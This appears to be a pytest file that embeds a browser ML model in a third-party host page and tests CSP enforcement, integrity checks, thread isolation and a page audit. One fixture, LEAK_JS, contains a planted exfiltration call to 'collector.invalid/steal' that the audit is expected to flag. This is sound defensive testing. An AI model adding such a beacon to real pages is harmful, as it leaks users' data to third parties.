"""A host page that is not webml's uses a site's model through webml.js and
<webml-model>, in real Chromium, under a CSP as strict as the generated page's;
`verify --page` audits it."""

import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from support import host_page, site_file

from converter import ConvertOptions, convert_model
from converter.manifest import Feature, read_manifest
from converter.reference import run_onnx
from webapp.build import BuildOptions, build_site
from webapp.headers import MIME_TYPES
from webapp.serve import running_server

FEATURES = (Feature("age", 18, 90, 40), Feature("glucose"))

# The host's own layout, style and script: nothing of webml's page.
HOST_BODY = """  <nav class="acme-bar">Acme clinic</nav>
  <main class="acme-grid">
    <webml-model id="digits" src="./" backend="wasm">
      <p class="acme-hint">Pick an image</p>
    </webml-model>
    <output id="risk">loading</output>
  </main>"""
HOST_CSS = """.acme-bar { background: #222; color: #fff; padding: 4px; }
.acme-grid { display: grid; grid-template-columns: 2fr 1fr; gap: 8px; }
webml-model::part(status) { font-style: italic; }
"""
# Listens to the element, and loads the tabular site (in tabular/) with the module.
HOST_JS = """import { load } from './webml.js';
import './webml-element.js';

const element = document.getElementById('digits');
const events = [];
for (const type of ['progress', 'ready', 'result', 'error']) {
  element.addEventListener(type, (event) => events.push({
    type, backend: event.detail?.backend ?? null }));
}
window.acme = { events, element };
window.acme.loaded = load('./tabular', { backend: 'wasm' }).then((model) => {
  window.acme.model = model;
  document.getElementById('risk').textContent = 'ready';
  return model.backend;
});
"""
# The same host page, leaking once the models are ready: CSP refuses it, verify must see it.
LEAK_JS = HOST_JS + """
window.acme.loaded.then(() => element.ready).then(() => setTimeout(() => {
  fetch('https://collector.invalid/steal?risk=1').catch(() => {});
}, 100));
"""


def tabular_model(folder: Path) -> Path:
    """A tiny real logistic regression on two named features."""
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    graph = helper.make_graph(
        [helper.make_node("Gemm", ["x", "w", "b"], ["z"]),
         helper.make_node("Sigmoid", ["z"], ["risk"])],
        "risk",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["N", 2])],
        [helper.make_tensor_value_info("risk", TensorProto.FLOAT, ["N", 1])],
        [numpy_helper.from_array(np.array([[0.03], [0.01]], dtype=np.float32), "w"),
         numpy_helper.from_array(np.array([-2.5], dtype=np.float32), "b")])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    onnx.save(model, str(folder / "risk.onnx"))
    return folder / "risk.onnx"


@pytest.fixture(scope="module")
def host_site(tmp_path_factory: pytest.TempPathFactory, tiny_onnx: Path) -> Path:
    """The tiny image classifier's site, with the tabular site in tabular/ and the host pages."""
    folder = tmp_path_factory.mktemp("embed")
    site = build_site(convert_model(tiny_onnx, folder / "image").out_dir, folder / "site").out_dir
    tabular = convert_model(tabular_model(folder), folder / "tabular", ConvertOptions(
        features=FEATURES, task="regression", labels=("risk",))).out_dir
    build_site(tabular, site / "tabular")
    for name, script in (("host.html", "host.js"), ("leaky.html", "leaky.js")):
        (site / name).write_text(host_page("Acme triage", script, HOST_BODY, head=(
            '\n  <link rel="stylesheet" href="host.css">')), encoding="utf-8")
    (site / "host.js").write_text(HOST_JS, encoding="utf-8")
    (site / "leaky.js").write_text(LEAK_JS, encoding="utf-8")
    (site / "host.css").write_text(HOST_CSS, encoding="utf-8")
    return site


@pytest.fixture(scope="module")
def host(browser: Any, host_site: Path) -> Iterator[tuple[Any, list[str]]]:
    """host.html open and ready, with the console's CSP reports and the page's errors."""
    with running_server(host_site) as url:
        page = browser.new_page()
        problems: list[str] = []
        page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
        page.on("pageerror", lambda e: problems.append(str(e)))
        page.goto(url + "host.html")
        assert page.evaluate("() => window.acme.loaded") == "wasm"
        page.evaluate("() => window.acme.element.ready.then(() => true)")
        yield page, problems
        page.close()


def test_module_answers_a_row_as_native(host: tuple[Any, list[str]], host_site: Path) -> None:
    page, problems = host
    answer = page.evaluate("""async () => {
        const a = await window.acme.model.run({ age: 63, glucose: 140 });
        return { kind: window.acme.model.kind, x: Array.from(a.feeds.x.data),
                 shape: a.outputs.risk.shape, risk: Array.from(a.outputs.risk.data),
                 isFloat: a.outputs.risk.data instanceof Float32Array };
    }""")
    assert answer["kind"] == "tabular" and answer["isFloat"]
    assert answer["x"] == [63, 140] and answer["shape"] == [1, 1]
    native = run_onnx(site_file(host_site / "tabular", "model.onnx"),
                      {"x": np.array([[63, 140]], dtype=np.float32)})
    assert np.allclose(answer["risk"], native["risk"].ravel(), atol=1e-6)
    # A row that lacks a feature is refused with its name.
    message = page.evaluate("() => window.acme.model.run({ age: 1 }).catch((e) => e.message)")
    assert "glucose" in message
    assert problems == []


def test_module_runs_the_golden_and_a_picture(host: tuple[Any, list[str]],
                                              host_site: Path) -> None:
    page, _ = host
    manifest = read_manifest(host_site)
    result = page.evaluate("""async (values) => {
        const { load } = await import('./webml.js');
        const model = await load('./', { backend: 'wasm' });
        const fromTensor = await model.run(Float32Array.from(values));
        // A picture: ImageData at the model's size, as a host app would draw it.
        const pixels = new ImageData(8, 8);
        for (let i = 0; i < pixels.data.length; i++) pixels.data[i] = (i * 37) % 256;
        for (let i = 3; i < pixels.data.length; i += 4) pixels.data[i] = 255;
        const fromPicture = await model.run(pixels, { topK: 3 });
        model.dispose();
        const disposed = await model.run(pixels).then(() => 'ran', (e) => e.message);
        return {
            golden: Array.from(fromTensor.outputs.probabilities.data), kind: model.kind,
            feeds: Array.from(fromPicture.feeds.image.data), shape: fromPicture.feeds.image.shape,
            picture: Array.from(fromPicture.outputs.probabilities.data), top: fromPicture.top,
            disposed,
        };
    }""", manifest.golden.inputs["image"].ravel().tolist())
    assert result["kind"] == "image"
    got = manifest.golden.pick({"probabilities": np.asarray(result["golden"]).reshape(1, 10)})
    want = manifest.golden.outputs["probabilities"]
    assert np.allclose(got["probabilities"], want, atol=manifest.golden.atol)
    feeds = np.asarray(result["feeds"], dtype=np.float32).reshape(result["shape"])
    native = run_onnx(site_file(host_site, "model.onnx"), {"image": feeds})["probabilities"].ravel()
    assert np.allclose(result["picture"], native, atol=1e-5)
    assert [t["index"] for t in result["top"]] == list(np.argsort(-native, kind="stable")[:3])
    assert result["disposed"] == "the model was disposed"


def test_element_fires_its_events_and_answers(host: tuple[Any, list[str]], host_site: Path,
                                              tmp_path: Path) -> None:
    from PIL import Image

    page, problems = host
    kinds = [e["type"] for e in page.evaluate("() => window.acme.events")]
    assert "progress" in kinds and kinds.count("ready") == 1 and "error" not in kinds
    ready = page.evaluate("() => window.acme.events.find((e) => e.type === 'ready').backend")
    assert ready == "wasm"
    # The site page's own image widget, in the element (Playwright's CSS pierces its shadow root).
    rng = np.random.default_rng(5)
    pixels = rng.integers(0, 256, size=(8, 8, 3), dtype=np.uint8)
    Image.fromarray(pixels).save(tmp_path / "upload.png")
    page.set_input_files("webml-model #image-file", str(tmp_path / "upload.png"))
    page.wait_for_function("() => window.acme.events.some((e) => e.type === 'result')")
    page.wait_for_selector("webml-model .topk li")
    grey = (pixels @ np.array([0.299, 0.587, 0.114]) / 255).astype(np.float32)
    native = run_onnx(site_file(host_site, "model.onnx"), {"image": grey.reshape(1, 1, 8, 8)})
    shown = page.locator("webml-model .topk li .label").first.text_content()
    assert shown == f"class {int(np.argmax(native['probabilities']))}"
    # Styled through its parts and the site's stylesheets, not inline styles the CSP refuses.
    assert page.evaluate("() => getComputedStyle(window.acme.element.shadowRoot"
                         ".querySelector('[part=status]')).fontStyle") == "italic"
    assert not [p for p in problems if "Content Security Policy" in p]
    # Another src loads again: a second ready, and the new model answers.
    page.evaluate("() => { window.acme.element.setAttribute('src', '.'); }")
    page.wait_for_function(
        "() => window.acme.events.filter((e) => e.type === 'ready').length === 2")
    assert page.evaluate("() => window.acme.element.ready.then((m) => m.kind)") == "image"


def test_module_refuses_a_changed_page_script(browser: Any, host_site: Path) -> None:
    """webml.js and the element are in the manifest's page scripts; a changed one stops load."""
    assert {"webml.js", "webml-element.js"} <= {f.path for f in read_manifest(host_site).page}
    with running_server(host_site) as url:
        page = browser.new_page()
        # The worker's script, which no integrity attribute can pin, served changed.
        page.route("**/js/worker.js", lambda route: route.fulfill(
            status=200, content_type="text/javascript", body="self.onmessage = () => {};"))
        page.goto(url + "host.html")
        message = page.evaluate("() => window.acme.loaded.catch((e) => e.message)")
        page.close()
    assert "js/worker.js failed its integrity check" in message


def webml_verify(site: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """`webml verify` in its own process: this file's Playwright holds this one's loop."""
    return subprocess.run([sys.executable, "-m", "webapp", "verify", str(site), *args],
                          capture_output=True, text=True, timeout=600, check=False)


def test_verify_page_audits_the_host_page(host_site: Path) -> None:
    done = webml_verify(host_site, "--page", "host.html", "--watch", "0")
    assert done.returncode == 0, done.stdout + done.stderr
    # One line for the page, both of its models checked against their own golden outputs.
    assert re.search(r"page host.html\s+wasm\s+pass", done.stdout), done.stdout
    assert "0 to other origins, 0 after the model loaded" in done.stdout


def test_verify_page_fails_a_host_page_that_leaks(host_site: Path) -> None:
    done = webml_verify(host_site, "--page", "leaky.html", "--watch", "1")
    assert done.returncode == 1, done.stdout + done.stderr
    assert "collector.invalid" in done.stdout
    missing = webml_verify(host_site, "--page", "absent.html")
    assert missing.returncode == 2 and "\nerror: --page absent.html is not" in missing.stderr


@pytest.fixture(scope="module")
def dip_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small dense classifier's site built with --isolation dip (wasm only).

    Not the tiniest model: onnxruntime-web's adapter keeps a model whose work
    (weight bytes times input values) is tiny on one thread even when isolated.
    """
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    rng = np.random.default_rng(11)
    graph = helper.make_graph(
        [helper.make_node("Gemm", ["x", "w", "b"], ["logits"]),
         helper.make_node("Softmax", ["logits"], ["probabilities"], axis=-1)],
        "dense",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 10000])],
        [helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, [1, 16])],
        [numpy_helper.from_array((rng.normal(size=(10000, 16)) * 0.01).astype(np.float32), "w"),
         numpy_helper.from_array(np.zeros(16, np.float32), "b")])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    folder = tmp_path_factory.mktemp("dip")
    onnx.save(model, str(folder / "dense.onnx"))
    converted = convert_model(folder / "dense.onnx", folder / "model").out_dir
    return build_site(converted, folder / "site",
                      BuildOptions(backends=("wasm",), isolation="dip")).out_dir


THREADS = """async () => {
    const ready = await window.webml.ready;
    const { load } = await import('./webml.js');
    const model = await load('./', { backend: 'wasm' });
    const answer = [ready.threads, model.threads, model.crossOriginIsolated, crossOriginIsolated,
                    Math.min(4, navigator.hardwareConcurrency)];
    model.dispose();
    return answer;
}"""


def test_dip_isolates_without_coop(browser: Any, dip_site: Path) -> None:
    for name in ("_headers", "nginx-webml.conf", "sw.js"):
        text = (dip_site / name).read_text(encoding="utf-8")
        assert "isolate-and-require-corp" in text and "Cross-Origin-Opener-Policy" not in text
    with running_server(dip_site) as url:
        context = browser.new_context()
        page = context.new_page()
        response = page.goto(url + "?sw=0")
        assert response.headers["document-isolation-policy"] == "isolate-and-require-corp"
        assert "cross-origin-opener-policy" not in response.headers
        assert "cross-origin-embedder-policy" not in response.headers
        page_threads, module_threads, module_isolated, isolated, cores = page.evaluate(THREADS)
        context.close()
    assert isolated and module_isolated
    # onnxruntime-web's threads: min(4, cores) once isolated (2 on a 2-core machine).
    assert page_threads == module_threads == cores


def test_without_isolation_wasm_runs_one_thread(browser: Any, dip_site: Path) -> None:
    """A host that sends neither header, and no service worker (sw=0): the page's fallback."""
    import threading
    from functools import partial
    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

    class PlainHost(SimpleHTTPRequestHandler):
        extensions_map = {**SimpleHTTPRequestHandler.extensions_map, **MIME_TYPES}

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(PlainHost, directory=str(dip_site)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(f"http://127.0.0.1:{server.server_address[1]}/?sw=0")
        page_threads, module_threads, module_isolated, isolated, _ = page.evaluate(THREADS)
    finally:
        context.close()
        server.shutdown()
        server.server_close()
    assert not isolated and not module_isolated
    assert page_threads == module_threads == 1
